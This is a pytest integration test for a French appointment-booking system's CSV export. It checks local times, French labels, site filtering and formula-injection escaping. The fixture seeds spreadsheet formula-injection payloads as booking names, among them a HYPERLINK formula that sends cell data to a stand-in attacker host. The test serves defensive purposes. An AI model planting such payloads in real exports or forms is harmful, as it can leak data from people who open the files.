"""The export's content: one row per booking of the period (both statuses), local times,
readable French values, formula injection neutralised — on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from sqlalchemy import select, update

from app.db.models import Site
from app.reports.csv_export import HEADERS, bookings_csv
from app.reports.rows import bookings_between
from tests.integration.data_helpers import PARIS, add_booking, local, read, seed_demo, write
from tests.integration.helpers import execute

DAY = date(2026, 12, 1)


@pytest.fixture
def sites(settings):
    seed_demo(settings)

    async def work(session):
        await add_booking(
            session,
            "ccas-aide-sociale",
            local(DAY, 9, 30),
            attendance="no_show",
            last_name='=HYPERLINK("http://evil.example/?"&A1;"clic")',
            first_name="@SUM(1+1)",
            phone="+33612345678",
            created_at=datetime(2026, 11, 20, 8, 5, tzinfo=PARIS),
        )
        await add_booking(
            session,
            "titres-identite",
            local(DAY, 8, 30),
            people=2,
            by_staff=True,
            status="cancelled",
            extra={"predemande": "2A3B4C5D6E"},
            last_name="Lefèvre",
            first_name="Zoé",
            email="zoe@example.org",
        )
        await add_booking(session, "ccas-aide-sociale", local(DAY + timedelta(days=1), 0, 30))
        await add_booking(session, "ccas-aide-sociale", local(DAY - timedelta(days=1), 23, 59))
        return {s.name: s.id for s in (await session.execute(select(Site))).scalars()}

    return write(settings, work)


def export(settings, first, last, site_ids=None):
    rows = read(settings, lambda session: bookings_between(session, first, last, site_ids))
    data = bookings_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def test_one_row_per_booking_of_the_local_days_with_readable_values(settings, sites):
    rows = export(settings, DAY, DAY)
    assert [row["heure"] for row in rows] == ["08:30", "09:30"]
    passport, ccas = rows
    assert list(passport) == list(HEADERS)
    assert passport["date"] == "01/12/2026" and passport["fin"] == "09:00"
    assert passport["site"] == "Hôtel de ville"
    assert passport["type"] == "Carte d'identité / passeport"
    assert (passport["nom"], passport["prénom"]) == ("Lefèvre", "Zoé")
    assert passport["personnes"] == "2"
    assert passport["statut"] == "Annulé" and passport["pris par le personnel"] == "oui"
    assert passport["annulé par"] == "usager" and ccas["annulé par"] == ""
    assert passport["informations complémentaires"] == "Numéro de pré-demande : 2A3B4C5D6E"
    assert ccas["présence"] == "Absent" and ccas["statut"] == "Confirmé"
    assert ccas["créé le"] == "20/11/2026 08:05"


def test_formula_injection_is_neutralised(settings, sites):
    ccas = export(settings, DAY, DAY)[1]
    assert ccas["nom"] == '\'=HYPERLINK("http://evil.example/?"&A1;"clic")'
    assert ccas["prénom"] == "'@SUM(1+1)"
    assert ccas["téléphone"] == "'+33612345678"


def test_site_filter_and_site_time_zone(settings, sites):
    assert [r["type"] for r in export(settings, DAY, DAY, {sites["Espace solidarité"]})] == [
        "CCAS — aide sociale"
    ]
    execute(settings, update(Site).values(timezone="America/Cayenne"))  # UTC-3
    rows = export(settings, DAY, DAY)
    # 00:30 on 2 December in Paris is 20:30 on 1 December in Cayenne.
    assert [(r["date"], r["heure"]) for r in rows][-1] == ("01/12/2026", "20:30")
